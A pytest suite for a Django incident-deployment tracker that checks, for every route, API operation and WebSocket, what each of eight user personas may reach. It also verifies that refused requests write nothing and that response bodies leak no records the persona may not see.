"""Every door × every persona: who gets in, who is refused, and what no one may ever read.

`DOORS` below is the spec a reviewer reads: one line per route and method, the expected outcome
for each persona in `PERSONAS`. The rows are checked against the running project so a new door
cannot slip in untested — a test fails when
- the URL conf (walked recursively, includes and all) has a route without a row,
- the OpenAPI schema (drf-spectacular's generator: paths × methods) has an operation without a row,
- `deploy_tracker.routing.websocket_urlpatterns` has a route without a row,
- or a row names a route, operation or WebSocket that no longer exists.

Django's admin is one class with one rule (whoever is not staff is sent to the admin login);
`ADMIN_SAMPLE` tries a few of its URLs, and a superuser opens them, so the redirect is the rule
and not a broken address.

Each cell runs in a savepoint that is rolled back: every persona meets the same world, and a
refused caller is checked to have written nothing (every row of the project's tables is compared
before and after). Every body is scanned — pages, JSON, iCalendar, CSV, the XML inside
workbooks, WebSocket replays — for the marker strings of records the persona must not see.

Already covered elsewhere, not repeated here (tests/test_offers_and_pages.py): a tampered offer
link (403), an expired one (409), one already answered (409), someone else signed in posting the
link (403, here too as a cell of the matrix), and a forged calendar address (404).
"""

# The tables below are `fmt: skip` so their columns line up under the personas; only they pass 110.
# ruff: noqa: E501

from __future__ import annotations

import contextlib
import copy
import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import openpyxl
import pytest
from asgiref.sync import sync_to_async
from channels.testing import WebsocketCommunicator
from django.apps import apps
from django.contrib.auth.models import User
from django.contrib.messages import ERROR, get_messages
from django.core import signing
from django.db import connections, models, transaction
from django.http import HttpResponseBase, QueryDict
from django.test import Client
from django.urls import Resolver404, URLPattern, URLResolver, get_resolver, resolve, reverse
from django.utils import timezone
from drf_spectacular.generators import SchemaGenerator
from pytest_django import Settings
from rest_framework.authtoken.models import Token

from deploy_tracker.routing import websocket_urlpatterns
from incidents import jobs, offers, timesheets, workflow
from incidents.models import (
    Deployment,
    EquipmentIssue,
    Event,
    Expense,
    Facility,
    Incident,
    IncidentMembership,
    Job,
    RoleRequest,
    TimeEntry,
)
from incidents.views import CALENDAR_SALT
from reports import jobs as report_jobs
from resources.models import Expert, Qualification
from tests import factories
from tests.conftest import World

Status = Deployment.Status

# --- Who asks --------------------------------------------------------------------------------------

# `alice` is the responder whose records fill the URLs (her own record); `bob` is another
# responder asking for those same records. `other_cmd` commands another incident.
PERSONAS = ("anonymous", "outsider", "alice", "bob", "viewer", "finance", "commander", "other_cmd")

# Outcomes a cell may expect:
#   200 201 202 204 400 403 404 405 409   the HTTP status
#   login     302 to /login/          admin     302 to the admin's login
#   302       302 elsewhere, no error message (a form's work done)
#   refused   302 back with an error message (the service said no)
#   open      WebSocket accepted      4401 4403  WebSocket closed with that code
# Every cell but 2xx, 302 and open must leave every table as it was.
OUTCOMES = frozenset("200 201 202 204 400 403 404 405 409 login admin 302 refused open 4401 4403".split())
MAY_WRITE = frozenset({"200", "201", "202", "204", "302", "open"})

# --- What no one else may read -------------------------------------------------------------------

# Each tag is part of every marker string of its records (names, emails, facility codes and
# names, notes); the set is who may see them. Roster records (`*-id-*`, the expert's email) are
# seen by every commander (matching needs the whole roster) and by members of an incident the
# expert is deployed in; the records of a deployment (`*-rec-*`) by the incident's members and
# the responder themself.
MARKERS: dict[str, frozenset[str]] = {
    "alice-rec-7c1": frozenset({"alice", "viewer", "finance", "commander"}),
    "alice-id-7c1": frozenset({"alice", "viewer", "finance", "commander", "other_cmd"}),
    "bob-rec-9d2": frozenset({"bob", "viewer", "finance", "commander"}),
    "bob-id-9d2": frozenset({"bob", "viewer", "finance", "commander", "other_cmd"}),
    "other-inc-4e8": frozenset({"other_cmd"}),
}


# --- The table -----------------------------------------------------------------------------------

Body = Callable[["Records"], dict[str, Any]]


@dataclass(frozen=True)
class Door:
    """One route and method, and what each persona gets from it."""

    method: str
    route: str  # a URL name (pages, admin) or the OpenAPI path (API operations)
    expect: tuple[str, ...]
    kwargs: dict[str, str] = field(default_factory=dict)  # URL parameter → a `Records` attribute
    query: dict[str, str] = field(default_factory=dict)
    body: Body | None = None
    # The address itself is the credential (signed offer link, calendar feed): whoever holds
    # it and is let in reads what Alice may read.
    bearer: bool = False

    @property
    def api(self) -> bool:
        return self.route.startswith("/")

    @property
    def id(self) -> str:
        return f"{self.method} {self.route}"


def door(method: str, route: str, expect: str, **options: Any) -> Door:
    outcomes = tuple(expect.split())
    assert len(outcomes) == len(PERSONAS), f"{method} {route}: {len(outcomes)} outcomes"
    assert set(outcomes) <= OUTCOMES, f"{method} {route}: unknown {set(outcomes) - OUTCOMES}"
    return Door(method, route, outcomes, **options)


GET, POST, PUT, PATCH, DELETE = "GET", "POST", "PUT", "PATCH", "DELETE"
INCIDENT = {"pk": "incident"}
FINANCE_REPORT = {"incident": "WA-2026-01"}


def new_request(r: Records) -> dict[str, Any]:
    return {
        "facility": r.alice_site.pk,
        "qualification": r.qualification.code,
        "quantity": 1,
        "start": str(r.today + timedelta(days=10)),
        "end": str(r.today + timedelta(days=16)),
        "priority": "normal",
    }


def new_request_form(r: Records) -> dict[str, Any]:
    return {**new_request(r), "qualification": r.qualification.pk}


DOORS: list[Door] = [
    # Pages                                    anonymous outsider alice bob  viewer finance commander other_cmd
    door(GET, "home", "                        login     200      302   302  200    200     200       200"),
    door(POST, "home", "                       login     200      302   302  200    200     200       200"),
    door(GET, "login", "                       200       200      200   200  200    200     200       200"),
    door(POST, "login", "                      200       200      200   200  200    200     200       200",
         body=lambda r: {"username": "alice", "password": "not her password"}),
    door(GET, "logout", "                      405       405      405   405  405    405     405       405"),
    door(POST, "logout", "                     login     login    login login login  login   login     login"),
    door(GET, "offer-answer", "                200       403      200   403  403    403     403       403",
         kwargs={"token": "offer_token"}, bearer=True),
    door(POST, "offer-answer", "               200       403      200   403  403    403     403       403",
         kwargs={"token": "offer_token"}, bearer=True, body=lambda r: {"answer": "accept"}),
    door(GET, "incident", "                    login     404      404   404  200    200     200       404",
         kwargs=INCIDENT),
    door(POST, "incident", "                   login     404      404   404  200    200     200       404",
         kwargs=INCIDENT),
    door(GET, "incident-fill", "               login     404      404   404  200    200     200       404",
         kwargs=INCIDENT),
    door(POST, "incident-fill", "              login     404      404   404  200    200     200       404",
         kwargs=INCIDENT),
    door(GET, "incident-match", "              login     405      405   405  405    405     405       405",
         kwargs=INCIDENT),
    door(POST, "incident-match", "             login     404      404   404  refused refused 302       404",
         kwargs=INCIDENT),
    door(GET, "incident-offers", "             login     405      405   405  405    405     405       405",
         kwargs=INCIDENT),
    door(POST, "incident-offers", "            login     404      404   404  refused refused 302       404",
         kwargs=INCIDENT),
    door(GET, "matching-board", "              login     404      404   404  404    404     200       404",
         kwargs=INCIDENT),
    door(POST, "matching-board", "             login     404      404   404  404    404     200       404",
         kwargs=INCIDENT, body=lambda r: {"action": "preview"}),
    door(GET, "demob-board", "                 login     404      404   404  404    404     200       404",
         kwargs=INCIDENT),
    door(POST, "demob-board", "                login     404      404   404  404    404     302       404",
         kwargs=INCIDENT, body=lambda r: {"action": "return", "item": r.alice_equipment.pk}),
    door(GET, "request-new", "                 login     404      404   404  404    404     200       404",
         kwargs=INCIDENT),
    door(POST, "request-new", "                login     404      404   404  404    404     302       404",
         kwargs=INCIDENT, body=new_request_form),
    door(GET, "request-edit", "                login     404      404   404  404    404     200       404",
         kwargs={"pk": "incident", "request_id": "spare_request"}),
    door(POST, "request-edit", "               login     404      404   404  404    404     302       404",
         kwargs={"pk": "incident", "request_id": "spare_request"}, body=new_request_form),
    door(GET, "check-in", "                    login     404      404   404  404    404     200       404",
         kwargs=INCIDENT),
    door(POST, "check-in", "                   login     404      404   404  404    404     302       404",
         kwargs=INCIDENT,
         body=lambda r: {"deployment": r.alice_accepted.pk, "temperature_c": "36.8", "spo2": "98"}),
    door(GET, "approvals", "                   login     404      404   404  404    200     200       404",
         kwargs=INCIDENT),
    door(POST, "approvals", "                  login     404      404   404  404    302     302       404",
         kwargs=INCIDENT, body=lambda r: {"kind": "time", "record": r.bob_time.pk, "decision": "approve"}),
    door(GET, "my-deployments", "              login     404      200   200  404    404     404       404"),
    door(POST, "my-deployments", "             login     404      200   200  404    404     404       404"),
    door(GET, "my-accept", "                   login     405      405   405  405    405     405       405",
         kwargs={"pk": "alice_offered"}),
    door(POST, "my-accept", "                  login     404      302   404  404    404     404       404",
         kwargs={"pk": "alice_offered"}),
    door(GET, "my-decline", "                  login     405      405   405  405    405     405       405",
         kwargs={"pk": "alice_offered"}),
    door(POST, "my-decline", "                 login     404      302   404  404    404     404       404",
         kwargs={"pk": "alice_offered"}),
    door(GET, "my-time", "                     login     405      405   405  405    405     405       405",
         kwargs={"pk": "alice_on_site"}),
    door(POST, "my-time", "                    login     404      302   404  404    404     404       404",
         kwargs={"pk": "alice_on_site"}, body=lambda r: {"date": str(r.yesterday), "regular_hours": "8"}),
    door(GET, "my-expense", "                  login     405      405   405  405    405     405       405",
         kwargs={"pk": "alice_on_site"}),
    door(POST, "my-expense", "                 login     404      302   404  404    404     404       404",
         kwargs={"pk": "alice_on_site"},
         body=lambda r: {"date": str(r.yesterday), "category": "lodging", "amount": "120"}),
    door(GET, "my-calendar", "                 200       200      200   200  200    200     200       200",
         kwargs={"token": "calendar_token"}, bearer=True),
    door(POST, "my-calendar", "                200       200      200   200  200    200     200       200",
         kwargs={"token": "calendar_token"}, bearer=True),
    door(GET, "import-roster", "               login     403      403   403  403    403     403       403"),
    door(POST, "import-roster", "              login     403      403   403  403    403     403       403"),
    door(GET, "import-incident", "             login     403      403   403  403    403     200       200"),
    door(POST, "import-incident", "            login     403      403   403  403    403     400       400"),
    door(GET, "import-template", "             login     403      403   403  403    403     200       200",
         kwargs={"kind": "import_kind"}),
    door(POST, "import-template", "            login     403      403   403  403    403     200       200",
         kwargs={"kind": "import_kind"}),
    door(GET, "reports", "                     login     200      200   200  200    200     200       200"),
    door(POST, "reports", "                    login     200      200   200  200    200     200       200"),
    door(GET, "report", "                      login     404      404   404  403    200     200       404",
         kwargs={"kind": "report_kind"}, query=FINANCE_REPORT),
    door(POST, "report", "                     login     404      404   404  403    200     200       404",
         kwargs={"kind": "report_kind"}, query=FINANCE_REPORT),
    door(GET, "report-prepare", "              login     405      405   405  405    405     405       405",
         kwargs={"kind": "report_kind"}, query=FINANCE_REPORT),
    door(POST, "report-prepare", "             login     404      404   404  403    302     302       404",
         kwargs={"kind": "report_kind"}, query=FINANCE_REPORT, body=lambda r: {"file": "csv"}),
    door(GET, "api-schema", "                  200       200      200   200  200    200     200       200"),
    door(POST, "api-schema", "                 405       405      405   405  405    405     405       405"),
    door(GET, "api-docs", "                    200       200      200   200  200    200     200       200"),
    door(POST, "api-docs", "                   405       405      405   405  405    405     405       405"),
    # API operations (OpenAPI paths)           anonymous outsider alice bob  viewer finance commander other_cmd
    door(POST, "/api/auth/token/", "           400       400      400   400  400    400     400       400",
         body=lambda r: {"username": "alice", "password": "not her password"}),
    door(GET, "/api/incidents/", "             403       200      200   200  200    200     200       200"),
    door(GET, "/api/incidents/{id}/", "        403       404      404   404  200    200     200       404",
         kwargs={"id": "incident"}),
    door(POST, "/api/incidents/{id}/match/", " 403       404      404   404  403    403     200       404",
         kwargs={"id": "incident"}, body=lambda r: {"dry_run": True}),
    door(POST, "/api/incidents/{id}/offers/", "403       404      404   404  403    403     200       404",
         kwargs={"id": "incident"}, body=lambda r: {}),
    door(GET, "/api/jobs/{id}/", "             403       404      404   404  404    200     200       404",
         kwargs={"id": "export_job"}),
    door(GET, "/api/jobs/{id}/file/", "        403       404      404   404  404    200     200       404",
         kwargs={"id": "export_job"}),
    door(GET, "/api/me/deployments/", "        403       200      200   200  200    200     200       200"),
    door(GET, "/api/facilities/", "            403       200      200   200  200    200     200       200"),
    door(GET, "/api/facilities/{id}/", "       403       404      404   404  200    200     200       404",
         kwargs={"id": "alice_site"}),
    door(GET, "/api/requests/", "              403       200      200   200  200    200     200       200"),
    door(POST, "/api/requests/", "             403       400      400   400  403    403     201       400",
         body=new_request),
    door(GET, "/api/requests/{id}/", "         403       404      404   404  200    200     200       404",
         kwargs={"id": "spare_request"}),
    door(PUT, "/api/requests/{id}/", "         403       404      404   404  403    403     200       404",
         kwargs={"id": "spare_request"}, body=new_request),
    door(PATCH, "/api/requests/{id}/", "       403       404      404   404  403    403     200       404",
         kwargs={"id": "spare_request"}, body=lambda r: {"notes": "Bring N95 masks"}),
    door(DELETE, "/api/requests/{id}/", "      403       404      404   404  403    403     204       404",
         kwargs={"id": "spare_request"}),
    door(GET, "/api/experts/", "               403       200      200   200  200    200     200       200"),
    door(GET, "/api/experts/{id}/", "          403       404      200   404  200    200     200       200",
         kwargs={"id": "alice"}),
    door(GET, "/api/qualifications/", "        403       200      200   200  200    200     200       200"),
    door(GET, "/api/qualifications/{id}/", "   403       200      200   200  200    200     200       200",
         kwargs={"id": "qualification"}),
    door(GET, "/api/deployments/", "           403       200      200   200  200    200     200       200"),
    door(POST, "/api/deployments/", "          403       400      400   400  403    403     201       400",
         body=lambda r: {"request": r.spare_request.pk, "expert": r.world.bob.pk}),
    door(GET, "/api/deployments/{id}/", "      403       404      200   404  200    200     200       404",
         kwargs={"id": "alice_offered"}),
    door(POST, "/api/deployments/{id}/offer/", "403      404      404   404  403    403     200       404",
         kwargs={"id": "alice_proposal"}, body=lambda r: {}),
    door(POST, "/api/deployments/{id}/accept/", "403     404      200   404  403    403     200       404",
         kwargs={"id": "alice_offered"}),
    door(POST, "/api/deployments/{id}/decline/", "403    404      200   404  403    403     200       404",
         kwargs={"id": "alice_offered"}, body=lambda r: {}),
    door(POST, "/api/deployments/{id}/check-in/", "403   404      403   404  403    403     200       404",
         kwargs={"id": "alice_accepted"}, body=lambda r: {"temperature_c": "36.8", "spo2": 98}),
    door(POST, "/api/deployments/{id}/release/", "403    404      403   404  403    403     409       404",
         kwargs={"id": "alice_on_site"}, body=lambda r: {"travel_arranged": True}),
    door(POST, "/api/deployments/{id}/cancel/", "403     404      200   404  403    403     200       404",
         kwargs={"id": "alice_accepted"}, body=lambda r: {"reason": "Family emergency"}),
    door(GET, "/api/events/", "                403       200      200   200  200    200     200       200"),
    door(GET, "/api/events/{id}/", "           403       404      200   404  200    200     200       404",
         kwargs={"id": "alice_event"}),
    door(GET, "/api/time-entries/", "          403       200      200   200  200    200     200       200"),
    door(POST, "/api/time-entries/", "         403       400      201   400  403    201     201       400",
         body=lambda r: {"deployment": r.alice_on_site.pk, "date": str(r.yesterday - timedelta(days=1)),
                         "regular_hours": "8"}),
    door(GET, "/api/time-entries/{id}/", "     403       404      200   404  200    200     200       404",
         kwargs={"id": "alice_time"}),
    door(POST, "/api/time-entries/review/", "  403       400      403   400  403    200     200       400",
         body=lambda r: {"ids": [r.alice_time.pk], "approve": True}),
    door(GET, "/api/expenses/", "              403       200      200   200  200    200     200       200"),
    door(POST, "/api/expenses/", "             403       400      201   400  403    201     201       400",
         body=lambda r: {"deployment": r.alice_on_site.pk, "date": str(r.yesterday), "category": "lodging",
                         "amount": "120.00"}),
    door(GET, "/api/expenses/{id}/", "         403       404      200   404  200    200     200       404",
         kwargs={"id": "alice_expense"}),
    door(POST, "/api/expenses/review/", "      403       400      403   400  403    200     200       400",
         body=lambda r: {"ids": [r.alice_expense.pk], "approve": True}),
    door(GET, "/api/reports/{kind}/", "        403       404      404   404  403    200     200       404",
         kwargs={"kind": "report_kind"}, query={**FINANCE_REPORT, "format": "xlsx"}),
    door(POST, "/api/reports/{kind}/jobs/", "  403       404      404   404  403    202     202       404",
         kwargs={"kind": "report_kind"}, body=lambda r: {**FINANCE_REPORT, "format": "csv"}),
]  # fmt: skip

# The admin: one class, one rule. A few of its doors — the index, an app, a list, an add form,
# a change form of a real record, a list action and a delete confirmation — as the rule's sample.
ADMIN_SAMPLE: list[Door] = [
    # Admin                                                anonymous outsider alice bob  viewer finance commander other_cmd
    door(GET, "admin:index", "                             admin     admin    admin admin admin admin  admin     admin"),
    door(GET, "admin:app_list", "                          admin     admin    admin admin admin admin  admin     admin",
         kwargs={"app_label": "app_label"}),
    door(GET, "admin:incidents_deployment_changelist", "   admin     admin    admin admin admin admin  admin     admin"),
    door(GET, "admin:resources_expert_add", "              admin     admin    admin admin admin admin  admin     admin"),
    door(GET, "admin:incidents_deployment_change", "       admin     admin    admin admin admin admin  admin     admin",
         kwargs={"object_id": "alice_offered"}),
    door(POST, "admin:incidents_deployment_changelist", "  admin     admin    admin admin admin admin  admin     admin",
         body=lambda r: {"action": "delete_selected", "_selected_action": [r.alice_proposal.pk], "post": "yes"}),
    door(POST, "admin:auth_user_delete", "                 admin     admin    admin admin admin admin  admin     admin",
         kwargs={"object_id": "outsider"}, body=lambda r: {"post": "yes"}),
]  # fmt: skip

# What each must see, so the scan above is never vacuous: the markers are really in these bodies.
SHOWN: dict[tuple[str, str], set[str]] = {
    ("GET /api/deployments/", "viewer"): {"alice-rec-7c1", "alice-id-7c1", "bob-rec-9d2", "bob-id-9d2"},
    ("GET /api/deployments/", "alice"): {"alice-rec-7c1", "alice-id-7c1"},
    ("GET /api/deployments/", "other_cmd"): {"other-inc-4e8"},
    ("GET /api/experts/", "other_cmd"): {"alice-id-7c1", "bob-id-9d2"},
    ("GET /api/time-entries/", "bob"): {"bob-rec-9d2"},
    ("GET /api/events/", "finance"): {"alice-rec-7c1", "bob-rec-9d2"},
    ("GET /api/reports/{kind}/", "finance"): {"alice-rec-7c1", "bob-rec-9d2"},
    ("GET /api/jobs/{id}/file/", "commander"): {"alice-rec-7c1", "bob-rec-9d2"},
    ("GET report", "commander"): {"alice-rec-7c1", "bob-rec-9d2"},
    ("GET reports", "other_cmd"): {"other-inc-4e8"},
    ("GET incident", "viewer"): {"alice-rec-7c1", "bob-rec-9d2"},
    ("GET approvals", "finance"): {"alice-rec-7c1", "bob-rec-9d2"},
    ("GET my-deployments", "bob"): {"bob-rec-9d2"},
    ("GET offer-answer", "anonymous"): {"alice-rec-7c1"},
    ("GET my-calendar", "bob"): {"alice-rec-7c1"},
    ("GET ws/incidents/<int:incident_id>/", "viewer"): {"alice-rec-7c1", "bob-rec-9d2"},
    ("GET ws/me/", "alice"): {"alice-rec-7c1"},
}

# WebSockets                                               anonymous outsider alice bob  viewer finance commander other_cmd
WEBSOCKETS: list[Door] = [
    door(GET, "ws/incidents/<int:incident_id>/", "         4401      4403     4403  4403 open   open    open      4403",
         kwargs={"incident_id": "incident"}),
    door(GET, "ws/me/", "                                  4401      4403     open  open 4403   4403    4403      4403"),
]  # fmt: skip


# --- The world -----------------------------------------------------------------------------------


@dataclass
class Records:
    """The conftest world plus a record of each kind, marked for the scan, for the URLs to name."""

    world: World
    today: date
    yesterday: date
    incident: Incident
    alice_site: Facility
    alice_offered: Deployment
    alice_accepted: Deployment
    alice_on_site: Deployment
    alice_proposal: Deployment
    alice_time: TimeEntry
    alice_expense: Expense
    alice_equipment: EquipmentIssue
    alice_event: Event
    bob_time: TimeEntry
    spare_request: RoleRequest
    export_job: Job  # the finance officer's finance report, written to storage
    offer_token: str
    calendar_token: str
    report_kind: str = "finance"
    import_kind: str = "incident"
    app_label: str = "incidents"

    @property
    def alice(self) -> Expert:
        return self.world.alice

    @property
    def outsider(self) -> User:
        return self.world.outsider

    @property
    def qualification(self) -> Qualification:
        return self.world.request.qualification

    def user(self, persona: str) -> User | None:
        w = self.world
        return {
            "anonymous": None,
            "outsider": w.outsider,
            "alice": w.alice_user,
            "bob": w.bob_user,
            "viewer": w.viewer,
            "finance": w.finance,
            "commander": w.commander,
            "other_cmd": w.other_commander,
        }[persona]

    def ref(self, name: str) -> str:
        value = getattr(self, name)
        return str(value.pk if isinstance(value, models.Model) else value)


def _request(
    facility: Facility, qualification: Qualification, start: date, days: int, quantity: int = 1
) -> RoleRequest:
    return factories.RoleRequestFactory(
        facility=facility,
        qualification=qualification,
        start=start,
        end=start + timedelta(days=days - 1),
        quantity=quantity,
    )


def _through(request: RoleRequest, expert: Expert, *, by: User, to: str) -> Deployment:
    """A deployment moved along the real workflow up to `to`, writing its real events."""
    d = workflow.propose(request, expert, by=by)
    if to == Status.PROPOSED:
        return d
    d = workflow.offer(d, by=by)
    if to == Status.OFFERED:
        return d
    d = workflow.accept(d, by=by)
    if to == Status.ACCEPTED:
        return d
    d, _ = workflow.check_in(d, by=by, temperature_c="36.8", spo2=98)
    return d


def _worked(d: Deployment, *, by: User, day: date, marker: str) -> tuple[TimeEntry, Expense]:
    """A day's hours and a taxi, submitted; and two days earlier a day approved (reports count it)."""
    entry = timesheets.log_time(d, by=by, day=day, regular_hours="8", notes=f"{marker} night shift")
    claim = timesheets.add_expense(
        d, by=by, day=day, category=Expense.Category.OTHER, amount="12.50", description=f"{marker} taxi"
    )
    earlier = day - timedelta(days=2)
    approved: list[TimeEntry | Expense] = [
        timesheets.log_time(d, by=by, day=earlier, regular_hours="10", notes=f"{marker} day shift"),
        timesheets.add_expense(
            d,
            by=by,
            day=earlier,
            category=Expense.Category.LODGING,
            amount="99",
            description=f"{marker} motel",
        ),
    ]
    approver = IncidentMembership.objects.get(
        incident=d.request.facility.incident, role=IncidentMembership.Role.COMMANDER
    ).user
    timesheets.review(approved, by=approver, approve=True)
    return entry, claim


def build(world: World) -> Records:
    """Alice's deployments in every state, Bob's on-site work at his own site, a spare request,
    a job, and a whole other incident with someone at work there.

    Every date counts from today: days worked must be past, and one expert's deployments must
    never overlap (rest days included), whatever day the suite runs."""
    w = world
    today = timezone.localdate(timezone=w.incident.tz)
    yesterday = today - timedelta(days=1)
    rn = w.request.qualification
    alice_site = w.request.facility
    alice_site.code, alice_site.name = "ALICE-REC-7C1", "Harborview alice-rec-7c1"
    alice_site.save()
    w.alice.email, w.bob.email = "alice-id-7c1@example.org", "bob-id-9d2@example.org"
    w.alice.save()
    w.bob.save()
    bob_site = factories.FacilityFactory(incident=w.incident, code="BOB-REC-9D2", name="Yakima bob-rec-9d2")
    w.other_incident.name = "Wildfire other-inc-4e8"
    w.other_incident.save()
    other_site = factories.FacilityFactory(
        incident=w.other_incident, code="OTHER-INC-4E8", name="Bend other-inc-4e8", state="OR"
    )
    at_work = today - timedelta(days=5)  # on site: 11 days around today, resting 2 more
    soon = today + timedelta(days=10)  # offered: 14 days from then; accepted: right after its rest

    alice_on_site = _through(
        _request(alice_site, rn, at_work, 11), w.alice, by=w.commander, to=Status.ON_SITE
    )
    alice_offered = _through(_request(alice_site, rn, soon, 14), w.alice, by=w.commander, to=Status.OFFERED)
    alice_accepted = _through(
        _request(alice_site, rn, soon + timedelta(days=16), 14), w.alice, by=w.commander, to=Status.ACCEPTED
    )
    alice_proposal = _through(
        _request(alice_site, rn, soon + timedelta(days=35), 10), w.alice, by=w.commander, to=Status.PROPOSED
    )
    alice_time, alice_expense = _worked(alice_on_site, by=w.alice_user, day=yesterday, marker="alice-rec-7c1")
    bob_on_site = _through(_request(bob_site, rn, at_work, 11), w.bob, by=w.commander, to=Status.ON_SITE)
    bob_time, _ = _worked(bob_on_site, by=w.bob_user, day=yesterday, marker="bob-rec-9d2")
    zed = factories.ExpertFactory(email="zed@example.org")
    zed_on_site = _through(
        _request(other_site, rn, at_work, 11), zed, by=w.other_commander, to=Status.ON_SITE
    )
    _worked(zed_on_site, by=w.other_commander, day=yesterday, marker="other-inc-4e8")
    return Records(
        world=w,
        today=today,
        yesterday=yesterday,
        incident=w.incident,
        alice_site=alice_site,
        alice_offered=alice_offered,
        alice_accepted=alice_accepted,
        alice_on_site=alice_on_site,
        alice_proposal=alice_proposal,
        alice_time=alice_time,
        alice_expense=alice_expense,
        alice_equipment=EquipmentIssue.objects.create(
            deployment=alice_on_site, item="Radio", issued_at=timezone.now()
        ),
        alice_event=Event.objects.get(deployment=alice_offered, type="deployment.offered"),
        bob_time=bob_time,
        spare_request=_request(alice_site, rn, soon, 14),
        export_job=_exported(w),
        offer_token=offers.answer_token(alice_offered),
        calendar_token=signing.Signer(salt=CALENDAR_SALT).sign_object(w.alice_user.pk),
    )


def _exported(w: World) -> Job:
    """A finance report prepared in the background by the finance officer, its file written."""
    job = report_jobs.start("finance", QueryDict("incident=WA-2026-01"), fmt="csv", sheet=None, by=w.finance)
    jobs.run(job.pk)  # here and now (a transactional test's immediate backend has run it already)
    job.refresh_from_db()
    assert job.status == Job.Status.DONE, job.error
    return job


@pytest.fixture
def records(world: World, settings: Settings, tmp_path: Path) -> Records:
    settings.MEDIA_ROOT = tmp_path / "media"  # the export's file lives in this test's own folder
    return build(world)


# --- Asking, and reading the answer --------------------------------------------------------------

# Every table of the project's own apps, the users and their API tokens: a refused caller
# changes none of their rows.
WATCHED: list[type[models.Model]] = [
    *apps.get_app_config("resources").get_models(),
    *apps.get_app_config("incidents").get_models(),
    User,
    Token,
]


def snapshot() -> dict[str, list[tuple[Any, ...]]]:
    return {m._meta.label: list(m._default_manager.order_by("pk").values_list()) for m in WATCHED}


def changed_tables(before: dict[str, list[Any]], after: dict[str, list[Any]]) -> list[str]:
    return [label for label in before if before[label] != after[label]]


def path_of(d: Door, r: Records) -> str:
    values = {name: r.ref(attr) for name, attr in d.kwargs.items()}
    if d.api:
        return re.sub(r"\{(\w+)\}", lambda m: values[m.group(1)], d.route)
    return reverse(d.route, kwargs=values)


def outcome(response: HttpResponseBase) -> str:
    """The cell's outcome in the table's words."""
    if response.status_code != 302:
        return str(response.status_code)
    location = response["Location"]
    if location.startswith(reverse("admin:login")):
        return "admin"
    if location.startswith(reverse("login")):
        return "login"
    said = [m for m in get_messages(response.wsgi_request) if m.level >= ERROR]  # type: ignore[attr-defined]
    return "refused" if said else "302"


def text_of(response: HttpResponseBase) -> str:
    """The whole body as text to scan: a workbook's XML, an iCalendar feed unfolded, lower case."""
    raw = b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]
    if raw.startswith(b"PK\x03\x04"):
        with zipfile.ZipFile(io.BytesIO(raw)) as book:
            raw = b"".join(book.read(name) for name in book.namelist())
    return raw.decode("utf-8", "replace").replace("\r\n ", "").lower()


def leaks(text: str, persona: str) -> list[str]:
    """The markers in `text` of records `persona` may not see."""
    return [tag for tag, readers in MARKERS.items() if persona not in readers and tag in text]


def ask(client: Client, d: Door, r: Records) -> HttpResponseBase:
    path = path_of(d, r)
    data = d.body(r) if d.body else {}
    if d.method == GET:
        return client.get(path, d.query)
    if d.query:
        path = f"{path}?{urlencode(d.query)}"
    if d.api:
        return client.generic(d.method, path, json.dumps(data), content_type="application/json")
    return client.post(path, data)


def client_for(persona: str, r: Records) -> Client:
    client = Client()
    user = r.user(persona)
    if user is not None:
        client.force_login(user)
    return client


def cell(client: Client, d: Door, persona: str, expected: str, r: Records) -> list[str]:
    """Ask as `persona` inside a savepoint that is rolled back; what is wrong with the answer.

    The session rows roll back with it, and the client's cookies are put back (signing out,
    flashed messages), so the next cell starts where this one did."""
    problems: list[str] = []
    cookies = copy.deepcopy(client.cookies)
    with transaction.atomic():
        before = snapshot() if expected not in MAY_WRITE else None
        try:
            response = ask(client, d, r)
        except Exception as exc:  # a 500: say which cell, and keep going through the table
            problems.append(f"{d.id} as {persona}: expected {expected}, raised {type(exc).__name__}: {exc}")
        else:
            got = outcome(response)
            if got != expected:
                problems.append(f"{d.id} as {persona}: expected {expected}, got {got}")
            if before is not None and (wrote := changed_tables(before, snapshot())):
                problems.append(f"{d.id} as {persona}: refused ({got}) but changed {', '.join(wrote)}")
            reader = "alice" if d.bearer and got in MAY_WRITE else persona
            problems += scan(d, persona, reader, text_of(response))
        transaction.set_rollback(True)
    client.cookies = cookies
    return problems


def scan(d: Door, persona: str, reader: str, text: str) -> list[str]:
    problems = []
    if found := leaks(text, reader):
        problems.append(f"{d.id} as {persona}: the body shows {', '.join(found)}")
    if missing := SHOWN.get((d.id, persona), set()) - {tag for tag in MARKERS if tag in text}:
        problems.append(f"{d.id} as {persona}: the body lacks {', '.join(sorted(missing))}")
    return problems


# --- Every door has a row, every row a door ------------------------------------------------------


def walk(
    patterns: list[URLPattern | URLResolver], prefix: str = "", ns: str = ""
) -> Iterator[tuple[str, str]]:
    """(namespaced name, route) of every URL pattern, through every include."""
    for p in patterns:
        if isinstance(p, URLResolver):
            inner = f"{ns}{p.namespace}:" if p.namespace else ns
            yield from walk(p.url_patterns, prefix + str(p.pattern), inner)
        else:
            yield (f"{ns}{p.name}" if p.name else f"{ns}<unnamed>"), prefix + str(p.pattern)


@pytest.fixture(scope="module")
def schema_operations() -> set[str]:
    schema = SchemaGenerator().get_schema(request=None, public=True)
    verbs = {"get", "post", "put", "patch", "delete", "head", "options", "trace"}
    return {f"{m.upper()} {path}" for path, ops in schema["paths"].items() for m in ops if m in verbs}


def _dummy(api_path: str) -> str:
    return re.sub(r"\{\w+\}", "1", api_path)


def api_route_names() -> set[str]:
    """The URL names the API rows reach (a row for no route is the schema test's to report)."""
    names = set()
    for d in DOORS:
        if d.api:
            with contextlib.suppress(Resolver404):
                names.add(resolve(_dummy(d.route)).view_name)
    return names


def test_every_route_of_the_url_conf_has_a_row_and_every_row_a_route() -> None:
    routes = list(walk(get_resolver().url_patterns))
    outside_admin = [(name, route) for name, route in routes if not name.startswith("admin:")]
    pages = {d.route for d in DOORS if not d.api}
    covered = pages | api_route_names()
    untested = sorted(f"{name} ({route})" for name, route in outside_admin if name not in covered)
    assert not untested, f"routes without a row in DOORS: {untested}"
    gone = pages - {name for name, _ in outside_admin}
    assert not gone, f"rows in DOORS for routes that no longer exist: {sorted(gone)}"


def test_every_page_is_tried_with_get_and_post_once() -> None:
    """A page's read door and its write door: a view that forgets its method check shows here."""
    tried = [(d.route, d.method) for d in [*DOORS, *ADMIN_SAMPLE] if not d.api]
    assert len(tried) == len(set(tried)), "a page and method have two rows"
